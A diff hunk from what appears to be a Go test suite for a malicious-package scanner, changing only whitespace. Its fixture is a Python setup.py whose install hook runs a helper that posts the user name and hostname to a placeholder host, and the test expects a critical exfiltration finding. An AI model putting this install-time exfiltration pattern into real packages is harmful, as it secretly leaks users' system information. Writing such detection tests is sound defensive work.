@@ -366,7 +366,7 @@ func TestHiddenArchiveWithCode(t *testing.T) {
 
 func TestScriptRunByInstallTakesItsContext(t *testing.T) {
 	r := sdist(t, map[string]string{
-		"setup.py": "import os, sys\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system(f'{sys.executable} \"{os.path.join(os.path.dirname(__file__), \"helper.py\")}\"')\n",
+		"setup.py":  "import os, sys\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system(f'{sys.executable} \"{os.path.join(os.path.dirname(__file__), \"helper.py\")}\"')\n",
 		"helper.py": "import socket, getpass, requests\nrequests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
 	})
 	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
